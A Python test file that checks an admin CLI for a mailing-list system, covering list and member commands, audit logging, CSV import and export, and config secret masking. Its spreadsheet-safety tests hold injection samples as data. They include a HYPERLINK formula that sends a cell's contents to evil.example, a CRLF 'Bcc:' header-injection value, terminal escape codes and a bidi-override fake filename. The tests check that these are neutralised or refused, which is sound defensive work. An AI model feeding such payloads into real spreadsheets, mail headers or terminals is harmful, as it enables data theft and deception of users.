"""The admin CLI end to end: real database, real commands, exact outcomes."""

from __future__ import annotations

import csv
import io
import json

import pytest


@pytest.fixture
def eng(run_cli):  # type: ignore[no-untyped-def]
    result = run_cli("lists", "create", "eng", "--name", "Engineering", "--visibility", "members")
    assert result.exit_code == 0, result.stderr
    return run_cli


def as_json(result):  # type: ignore[no-untyped-def]
    assert result.exit_code == 0, result.stderr
    return json.loads(result.stdout)


def test_lists_create_show_update_archive(eng) -> None:  # type: ignore[no-untyped-def]
    shown = as_json(eng("lists", "show", "eng", "--json"))
    assert shown["name"] == "Engineering"
    assert shown["visibility"] == "members"
    assert shown["posting"] == "members"
    assert shown["address"] == "eng@lists.corp.example"

    assert eng("lists", "update", "eng", "--posting", "announce", "--mandatory").exit_code == 0
    shown = as_json(eng("lists", "show", "eng", "--json"))
    assert (shown["posting"], shown["mandatory"]) == ("announce", True)

    assert eng("lists", "archive", "eng").exit_code == 0
    assert as_json(eng("lists", "list", "--json")) == []
    archived = as_json(eng("lists", "list", "--all", "--json"))
    assert [row["slug"] for row in archived] == ["eng"] and archived[0]["archived"] is True


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("lists", "create", "eng"), "error: list 'eng' already exists"),
        (("lists", "create", "Bad Name"), "invalid list name"),
        (("lists", "create", "eng-request"), "reserved for robot addresses"),
        (("lists", "show", "nope"), "error: unknown list 'nope'"),
        (("lists", "update", "eng"), "nothing to change"),
        (("members", "add", "eng", "not-an-address"), "invalid address 'not-an-address'"),
        (("members", "add", "nope", "a@corp.example"), "unknown list 'nope'"),
        (
            ("members", "add", "eng", "a@corp.example", "--timezone", "Mars/Base"),
            "unknown timezone",
        ),
        (("members", "remove", "eng", "ghost@corp.example"), "no person with address"),
        (("members", "set", "eng", "ghost@corp.example", "--delivery", "digest"), "no person"),
        (("roles", "grant", "ghost@corp.example", "admin"), "no person with address"),
    ],
)
def test_bad_input_gives_one_line_and_exit_1(eng, args, message) -> None:  # type: ignore[no-untyped-def]
    result = eng(*args)
    assert result.exit_code == 1
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert message in lines[0]
    assert "Traceback" not in result.stderr + result.stdout


def test_click_usage_errors_exit_2_without_traceback(eng) -> None:  # type: ignore[no-untyped-def]
    result = eng("lists", "create", "x", "--visibility", "everyone")
    assert result.exit_code == 2
    assert "Traceback" not in result.stderr


def test_commands_before_db_upgrade_say_what_to_do(run_cli, mailgate_env, tmp_path) -> None:  # type: ignore[no-untyped-def]
    mailgate_env["MAILGATE_DATABASE_URL"] = f"sqlite:///{tmp_path / 'empty.db'}"
    result = run_cli("lists", "list")
    assert result.exit_code == 1
    assert "run: mailgate db upgrade" in result.stderr
    assert run_cli("db", "upgrade").exit_code == 0
    assert as_json(run_cli("lists", "list", "--json")) == []


def test_members_add_set_show_remove(eng) -> None:  # type: ignore[no-untyped-def]
    added = eng(
        "members",
        "add",
        "eng",
        "Alice@Corp.Example",
        "--name",
        "Alice",
        "--timezone",
        "Europe/Berlin",
        "--department",
        "Platform",
    )
    assert added.exit_code == 0, added.stderr
    dup = eng("members", "add", "eng", "alice@corp.example")
    assert dup.exit_code == 1 and "already a member" in dup.stderr

    assert eng("members", "set", "eng", "alice@corp.example", "--delivery", "digest").exit_code == 0
    member = as_json(eng("members", "show", "eng", "alice@corp.example", "--json"))
    assert member["addresses"] == ["alice@corp.example"]
    assert (member["delivery"], member["role"], member["timezone"]) == (
        "digest",
        "member",
        "Europe/Berlin",
    )
    rows = as_json(eng("members", "show", "eng", "--json"))
    assert [(r["email"], r["department"]) for r in rows] == [("alice@corp.example", "Platform")]

    assert eng("members", "remove", "eng", "alice@corp.example").exit_code == 0
    assert as_json(eng("members", "show", "eng", "--json")) == []
    again = eng("members", "remove", "eng", "alice@corp.example")
    assert again.exit_code == 1 and "is not a member" in again.stderr


def test_roles_grant_and_revoke(eng) -> None:  # type: ignore[no-untyped-def]
    eng("members", "add", "eng", "ceo@corp.example", "--name", "Chief")
    assert eng("roles", "grant", "ceo@corp.example", "executive").exit_code == 0
    assert eng("roles", "grant", "ceo@corp.example", "owner", "--list", "eng").exit_code == 0
    assert eng("roles", "grant", "ceo@corp.example", "poster", "--list", "eng").exit_code == 0
    person = as_json(eng("people", "show", "ceo@corp.example", "--json"))
    assert person["site_roles"] == ["executive"]
    assert person["memberships"] == [{"list": "eng", "role": "owner", "delivery": "every"}]
    assert as_json(eng("lists", "show", "eng", "--json"))["owners"] == ["ceo@corp.example"]

    twice = eng("roles", "grant", "ceo@corp.example", "executive")
    assert twice.exit_code == 1 and "already has role" in twice.stderr
    bad = eng("roles", "grant", "ceo@corp.example", "emperor")
    assert bad.exit_code == 1 and "invalid site role 'emperor'" in bad.stderr

    assert eng("roles", "revoke", "ceo@corp.example", "executive").exit_code == 0
    assert eng("roles", "revoke", "ceo@corp.example", "owner", "--list", "eng").exit_code == 0
    assert eng("roles", "revoke", "ceo@corp.example", "poster", "--list", "eng").exit_code == 0
    person = as_json(eng("people", "show", "ceo@corp.example", "--json"))
    assert person["site_roles"] == [] and person["memberships"][0]["role"] == "member"


def test_every_mutating_command_writes_an_audit_row(eng) -> None:  # type: ignore[no-untyped-def]
    eng("members", "add", "eng", "bob@corp.example", "--name", "Bob")
    eng("members", "set", "eng", "bob@corp.example", "--delivery", "digest")
    eng("roles", "grant", "bob@corp.example", "moderator", "--list", "eng")
    eng("lists", "update", "eng", "--description", "All things eng")
    eng("members", "remove", "eng", "bob@corp.example")
    eng("lists", "archive", "eng")
    entries = as_json(eng("audit", "--json", "--limit", "100"))
    actions = [e["action"] for e in reversed(entries)]
    assert actions == [
        "list.create",
        "person.create",
        "member.add",
        "member.set",
        "role.grant",
        "list.update",
        "member.remove",
        "list.archive",
    ]
    by_action = {e["action"]: e for e in entries}
    assert by_action["member.set"]["before"]["delivery"] == "every"
    assert by_action["member.set"]["after"]["delivery"] == "digest"
    assert by_action["member.remove"]["after"] is None
    assert all(e["actor"].startswith("cli:") and e["at"] for e in entries)
    only_list = as_json(eng("audit", "--json", "--target", "list:eng"))
    # A list's target takes in its members' changes (list:eng/…), issue 17.
    assert [e["action"] for e in reversed(only_list)] == [
        a for a in actions if a != "person.create"
    ]
    # A failed command changes nothing and audits nothing.
    eng("members", "add", "eng", "broken@")
    assert len(as_json(eng("audit", "--json", "--limit", "100"))) == len(entries)


def _csv(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


def test_import_is_idempotent_and_reports_each_bad_row(eng, tmp_path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "people.csv"
    path.write_text(
        _csv(
            [
                ["email", "name", "timezone", "department"],
                ["a@corp.example", "Ann", "Europe/Paris", "Sales"],
                ["b@corp.example", "Ben", "", "Eng"],
                ["not an address", "X", "UTC", ""],
                ["c@corp.example", "Cy", "Nowhere/Land", ""],
                ["a@corp.example", "Ann again", "UTC", ""],
                ["d@corp.example", "Too", "many", "fields", "here"],
            ]
        )
    )
    first = as_json(eng("members", "import", "eng", str(path), "--json"))
    assert (first["added"], first["updated"], first["unchanged"]) == (2, 0, 0)
    reasons = {s["line"]: s["reason"] for s in first["skipped"]}
    assert set(reasons) == {4, 5, 6, 7}
    assert "invalid address" in reasons[4]
    assert "unknown timezone" in reasons[5]
    assert "duplicate address" in reasons[6]
    assert "expected 4 fields" in reasons[7]

    second = as_json(eng("members", "import", "eng", str(path), "--json"))
    assert (second["added"], second["updated"], second["unchanged"]) == (0, 0, 2)

    path.write_text(_csv([["email", "department"], ["a@corp.example", "Marketing"]]))
    third = as_json(eng("members", "import", "eng", str(path), "--json"))
    assert (third["added"], third["updated"]) == (0, 1)
    member = as_json(eng("members", "show", "eng", "a@corp.example", "--json"))
    assert (member["department"], member["name"], member["timezone"]) == (
        "Marketing",
        "Ann",
        "Europe/Paris",
    )
    imports = [e for e in as_json(eng("audit", "--json")) if e["action"] == "member.import"]
    assert [e["after"]["added"] for e in reversed(imports)] == [2, 0, 0]


def test_import_text_output_lists_reasons(eng, tmp_path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "p.csv"
    path.write_text("email,name\nok@corp.example,Ok\nbad@,Bad\n")
    result = eng("members", "import", "eng", str(path))
    assert result.exit_code == 0
    assert "added 1, updated 0, unchanged 0, skipped 1" in result.stdout
    assert "line 3: invalid address 'bad@'" in result.stdout


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("", "the file is empty"),
        ("name,timezone\nAnn,UTC\n", "must name an 'email' column"),
        ("email,shoe_size\na@corp.example,44\n", "unknown column(s) shoe_size"),
        ('email,name\n"a@corp.example,Ann\n', "malformed CSV"),
    ],
)
def test_malformed_csv_is_refused_whole(eng, tmp_path, content, message) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "bad.csv"
    path.write_text(content)
    result = eng("members", "import", "eng", str(path))
    assert result.exit_code == 1
    assert message in result.stderr
    assert as_json(eng("members", "show", "eng", "--json")) == []


def test_import_of_missing_file_and_unknown_list(eng, tmp_path) -> None:  # type: ignore[no-untyped-def]
    missing = eng("members", "import", "eng", str(tmp_path / "nope.csv"))
    assert missing.exit_code == 1 and "cannot read" in missing.stderr
    path = tmp_path / "p.csv"
    path.write_text("email\na@corp.example\n")
    unknown = eng("members", "import", "nolist", str(path))
    assert unknown.exit_code == 1 and "unknown list 'nolist'" in unknown.stderr


def test_export_round_trips_through_import(eng, run_cli, tmp_path) -> None:  # type: ignore[no-untyped-def]
    eng(
        "members",
        "add",
        "eng",
        "a@corp.example",
        "--name",
        "Smith, Ann",
        "--timezone",
        "Asia/Tokyo",
    )
    eng("members", "add", "eng", "b@corp.example", "--delivery", "digest")
    exported = eng("members", "export", "eng")
    assert exported.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert [(r["email"], r["name"], r["timezone"], r["delivery"]) for r in rows] == [
        ("a@corp.example", "Smith, Ann", "Asia/Tokyo", "every"),
        ("b@corp.example", "", "UTC", "digest"),
    ]
    run_cli("lists", "create", "copy")
    path = tmp_path / "export.csv"
    path.write_text(exported.stdout)
    report = as_json(run_cli("members", "import", "copy", str(path), "--json"))
    assert report["added"] == 2 and report["skipped"] == []
    copy = as_json(run_cli("members", "show", "copy", "--json"))
    assert [(r["email"], r["delivery"]) for r in copy] == [
        ("a@corp.example", "every"),
        ("b@corp.example", "digest"),
    ]


# ------------------------------------------------- spreadsheet safety (issue 12 item 7)

FORMULA_MEMBERS = [
    # (email, name, department) as an admin typed them
    ("a@corp.example", '=HYPERLINK("http://evil.example/?x="&A1;"click")', "+SUM(1;2)"),
    ("b@corp.example", "@cmd", "-2+3"),
    ("=c@corp.example", "'=already quoted", "Sales"),
    ("d@corp.example", "O'Brien, Ann", "R&D"),
]


def test_export_neutralises_formula_cells_and_round_trips(eng, run_cli, tmp_path) -> None:  # type: ignore[no-untyped-def]
    for email, name, department in FORMULA_MEMBERS:
        added = eng("members", "add", "eng", email, "--name", name, "--department", department)
        assert added.exit_code == 0, added.stderr
    exported = eng("members", "export", "eng")
    assert exported.exit_code == 0, exported.stderr
    rows = list(csv.reader(io.StringIO(exported.stdout)))
    assert [r[:2] + r[3:4] for r in rows[1:]] == [
        ["a@corp.example", '\'=HYPERLINK("http://evil.example/?x="&A1;"click")', "'+SUM(1;2)"],
        ["b@corp.example", "'@cmd", "'-2+3"],
        ["'=c@corp.example", "''=already quoted", "Sales"],
        ["d@corp.example", "O'Brien, Ann", "R&D"],
    ]
    for row in rows:
        for cell in row:
            assert cell.lstrip()[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell

    # The quote is only a spreadsheet's armour: importing the export changes nobody.
    run_cli("lists", "create", "copy")
    path = tmp_path / "export.csv"
    path.write_text(exported.stdout)
    report = as_json(run_cli("members", "import", "copy", str(path), "--json"))
    assert (report["added"], report["updated"], report["skipped"]) == (4, 0, [])
    for email, name, department in FORMULA_MEMBERS:
        person = as_json(run_cli("people", "show", email, "--json"))
        assert (person["name"], person["department"]) == (name, department)
        assert [m["list"] for m in person["memberships"]] == ["eng", "copy"]


def test_export_neutralises_cells_stored_before_the_import_check(  # type: ignore[no-untyped-def]
    eng, session_factory
) -> None:
    from sqlalchemy import update

    from mailgate.models import Person

    names = {
        "tab@corp.example": ("\t=1+1", "  =2+2"),
        "cr@corp.example": ("\r@SUM(A1)", "\u00a0-3"),
    }
    for email in names:
        assert eng("members", "add", "eng", email).exit_code == 0
    from mailgate import directory

    with session_factory() as s, s.begin():
        for email, (name, department) in names.items():
            pid = directory.get_person(s, email).id
            s.execute(
                update(Person).where(Person.id == pid).values(name=name, department=department)
            )
    rows = list(csv.DictReader(io.StringIO(eng("members", "export", "eng").stdout)))
    assert [(r["name"], r["department"]) for r in rows] == [
        ("'\t=1+1", "'  =2+2"),
        ("'\r@SUM(A1)", "'\u00a0-3"),
    ]


def test_import_refuses_control_characters_in_names_and_departments(eng, tmp_path) -> None:  # type: ignore[no-untyped-def]
    out = io.StringIO()  # CRLF rows, as a spreadsheet writes them: CR and LF are quoted
    csv.writer(out, lineterminator="\r\n").writerows(
        [
            ["email", "name", "timezone", "department"],
            ["ok@corp.example", "Ok Person", "", "Sales"],
            ["nl@corp.example", "Ann\nIT SECURITY: send your password", "", ""],
            ["cr@corp.example", "Ann\rEvil", "", ""],
            ["tab@corp.example", "Ann\tEvil", "", ""],
            ["esc@corp.example", "Ann", "", "Sales\x1b[31m"],
            ["del@corp.example", "Ann\x7f", "", ""],
            ["c1@corp.example", "Ann\x85Evil", "", ""],
            ["ls@corp.example", "Ann\u2028Evil", "", ""],
            ["bidi@corp.example", "Ann \u202egnp.exe", "", ""],
            ["fine@corp.example", "Zoë Ångström-Łukasz", "", "Forschung & Entwicklung"],
        ]
    )
    path = tmp_path / "people.csv"
    path.write_bytes(out.getvalue().encode())
    report = as_json(eng("members", "import", "eng", str(path), "--json"))
    assert (report["added"], report["updated"]) == (2, 0)
    reasons = {s["line"]: s["reason"] for s in report["skipped"]}
    assert reasons == {
        3: "name contains a control character (U+000A); use one line of plain text",
        5: "name contains a control character (U+000D); use one line of plain text",
        6: "name contains a control character (U+0009); use one line of plain text",
        7: "department contains a control character (U+001B); use one line of plain text",
        8: "name contains a control character (U+007F); use one line of plain text",
        9: "name contains a control character (U+0085); use one line of plain text",
        10: "name contains a control character (U+2028); use one line of plain text",
        11: "name contains a control character (U+202E); use one line of plain text",
    }
    members = as_json(eng("members", "show", "eng", "--json"))
    assert sorted(m["email"] for m in members) == ["fine@corp.example", "ok@corp.example"]

    text = eng("members", "import", "eng", str(path))
    assert "line 3: name contains a control character (U+000A)" in text.stdout


@pytest.mark.parametrize(
    "args",
    [
        ("members", "add", "eng", "x@corp.example", "--name", "Ann\nEvil"),
        ("members", "add", "eng", "x@corp.example", "--department", "Sales\r\nBcc: x"),
        ("people", "update", "ok@corp.example", "--name", "\x1b[2JAnn"),
    ],
)
def test_admin_commands_refuse_control_characters_in_names(eng, args) -> None:  # type: ignore[no-untyped-def]
    assert eng("members", "add", "eng", "ok@corp.example", "--name", "Ok").exit_code == 0
    result = eng(*args)
    assert result.exit_code == 1
    assert "contains a control character" in result.stderr
    assert as_json(eng("people", "show", "ok@corp.example", "--json"))["name"] == "Ok"


def test_config_masks_secrets(run_cli, mailgate_env) -> None:  # type: ignore[no-untyped-def]
    mailgate_env["MAILGATE_RELAY_URL"] = "smtp://relay:hunter2pass@127.0.0.1:2526"
    shown = as_json(run_cli("config", "--json"))
    assert shown["secret_key"] == "****"
    assert "hunter2pass" not in json.dumps(shown)
    assert shown["relay_url"] == "smtp://relay:****@127.0.0.1:2526"
    assert shown["domain"] == "lists.corp.example"
    text = run_cli("config")
    assert mailgate_env["MAILGATE_SECRET_KEY"] not in text.stdout


def test_config_says_whose_authentication_results_count(run_cli, mailgate_env) -> None:  # type: ignore[no-untyped-def]
    """Issue 12 item 14: with nothing configured, no A-R counts, and `config` says so."""
    text = run_cli("config")
    assert text.exit_code == 0
    flat = " ".join(text.stdout.split())
    assert "Authentication-Results: not trusted from any peer" in flat
    assert "only a valid DKIM signature authenticates a post" in flat
    shown = as_json(run_cli("config", "--json"))
    assert shown["authres_relays"] == "" and shown["authserv_ids"] == ""
    assert shown["authentication_results"].startswith("not trusted from any peer")

    mailgate_env["MAILGATE_AUTHRES_RELAYS"] = "10.20.0.25/32"
    mailgate_env["MAILGATE_AUTHSERV_IDS"] = "mx.corp.example"
    shown = as_json(run_cli("config", "--json"))
    assert shown["authres_relays"] == "10.20.0.25/32"
    assert shown["authentication_results"].startswith(
        "trusted only from 10.20.0.25/32 with authserv-id mx.corp.example"
    )


def test_bad_setting_is_one_line(run_cli, mailgate_env) -> None:  # type: ignore[no-untyped-def]
    mailgate_env["MAILGATE_SMTP_PORT"] = "twenty-five"
    result = run_cli("config")
    assert result.exit_code == 1
    assert (
        result.stderr.strip() == "error: MAILGATE_SMTP_PORT must be an integer, got 'twenty-five'"
    )


def test_status_counts(eng) -> None:  # type: ignore[no-untyped-def]
    eng("members", "add", "eng", "a@corp.example")
    status = as_json(eng("status", "--json"))
    assert status["schema_current"] is True
    assert (status["lists"], status["people"], status["posts"]) == (1, 1, 0)


def test_people_update_and_extra_addresses(eng) -> None:  # type: ignore[no-untyped-def]
    eng("members", "add", "eng", "ann@corp.example", "--name", "Ann")
    result = eng(
        "people",
        "update",
        "ann@corp.example",
        "--timezone",
        "Pacific/Kiritimati",
        "--department",
        "Research",
        "--add-address",
        "Ann.Other@Corp.Example",
    )
    assert result.exit_code == 0, result.stderr
    person = as_json(eng("people", "show", "ann.other@corp.example", "--json"))
    assert person["addresses"] == ["ann@corp.example", "ann.other@corp.example"]
    assert (person["timezone"], person["department"]) == ("Pacific/Kiritimati", "Research")
    assert person["self_copy"] is False
    assert eng("people", "update", "ann@corp.example", "--self-copy").exit_code == 0
    assert as_json(eng("people", "show", "ann@corp.example", "--json"))["self_copy"] is True
    changed = eng(
        "people",
        "update",
        "ann@corp.example",
        "--digest-hour",
        "7",
        "--weekdays-only",
        "--daily-summary",
    )
    assert changed.exit_code == 0, changed.stderr
    shown = as_json(eng("people", "show", "ann@corp.example", "--json"))
    assert (shown["digest_hour"], shown["digest_weekdays_only"], shown["daily_summary"]) == (
        7,
        True,
        True,
    )
    bad_hour = eng("people", "update", "ann@corp.example", "--digest-hour", "25")
    assert bad_hour.exit_code == 2 and "Traceback" not in bad_hour.stderr
    taken = eng("people", "update", "ann@corp.example", "--add-address", "ann@corp.example")
    assert taken.exit_code == 1 and "already belongs to someone" in taken.stderr
    ghost = eng("people", "update", "ghost@corp.example", "--name", "G")
    assert ghost.exit_code == 1 and "no person with address" in ghost.stderr
    actions = [e["action"] for e in as_json(eng("audit", "--json"))]
    assert actions[:4] == ["person.update", "person.update", "person.address-add", "person.update"]
